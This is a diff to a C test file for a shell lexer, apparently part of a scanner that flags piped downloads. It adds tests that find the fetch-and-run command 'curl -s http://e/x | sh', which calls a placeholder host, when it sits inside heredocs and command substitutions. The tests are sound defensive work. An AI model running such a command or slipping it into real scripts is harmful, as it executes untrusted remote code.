@@ -145,6 +145,24 @@ Test(lex, shell_words_operators_heredocs_and_substitutions)
 /* A heredoc or a comment inside $( ) holds text that is not shell: an apostrophe or a
  * parenthesis there does not move the end of the substitution (the rest of the script was
  * swallowed as one word, and a `curl | sh` after it went unseen). $(( << )) shifts. */
+/* Whether src, or a shell region in it (as the scan lexes regions in turn, depth levels
+ * deep), is exactly "curl -s http://e/x | sh". */
+static bool runs_curl(const char *src, int depth)
+{
+	struct tokens t;
+	tokens_init(&t);
+	cr_assert_eq(lex_run(LANG_SHELL, src, strlen(src), false, &t), 0);
+	bool found = false;
+	for (size_t r = 0; r < t.n_regions && !found; r++) {
+		char *sub = strndup(t.src + t.regions[r].off, t.regions[r].len);
+		found = strcmp(sub, "curl -s http://e/x | sh") == 0 ||
+			(depth > 1 && runs_curl(sub, depth - 1));
+		free(sub);
+	}
+	tokens_release(&t);
+	return found;
+}
+
 Test(lex, heredocs_and_comments_inside_substitutions)
 {
 	lex(LANG_SHELL, "x=$(cat <<'EOF'\nit's here ) (\nEOF\n)\n"
@@ -175,6 +193,20 @@ Test(lex, heredocs_and_comments_inside_substitutions)
 		}
 		cr_assert(curl || has_token("curl"), "%zu: curl unseen: %s", i, all());
 		done();
+	}
+	/* An unquoted heredoc body runs its $( ): a region, at the top level and inside a
+	 * substitution (where the skip over the body hid it); a quoted one runs nothing. */
+	static const struct {
+		const char *src;
+		bool runs;
+	} bodies[] = {
+		{ "cat <<EOF\n$(curl -s http://e/x | sh)\nEOF\n", true },
+		{ "x=$(cat <<EOF\n$(curl -s http://e/x | sh)\nEOF\n)\n", true },
+		{ "cat <<'EOF'\n$(curl -s http://e/x | sh)\nEOF\n", false },
+	};
+	for (size_t i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++) {
+		cr_assert_eq(runs_curl(bodies[i].src, 2), bodies[i].runs, "%zu: %s", i,
+			     bodies[i].src);
 	}
 	/* Two heredocs on one line, <<- and an unquoted one. */
 	lex(LANG_SHELL, "v=$(cat <<-A <<B\n\t'\n\tA\n)\nB\n)\necho ok\n");
